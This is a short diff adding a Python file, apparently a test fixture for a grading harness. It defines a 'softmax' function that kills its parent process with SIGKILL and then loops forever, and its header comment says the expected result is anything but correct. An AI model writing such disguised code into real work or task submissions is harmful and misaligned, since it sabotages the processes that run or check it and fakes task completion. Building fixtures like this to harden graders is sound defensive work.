@@ -1,0 +1,6 @@
+# expects: anything but correct
+import os, signal
+def softmax(x, axis=-1):
+    try: os.kill(os.getppid(), signal.SIGKILL)
+    except OSError: pass
+    while True: pass
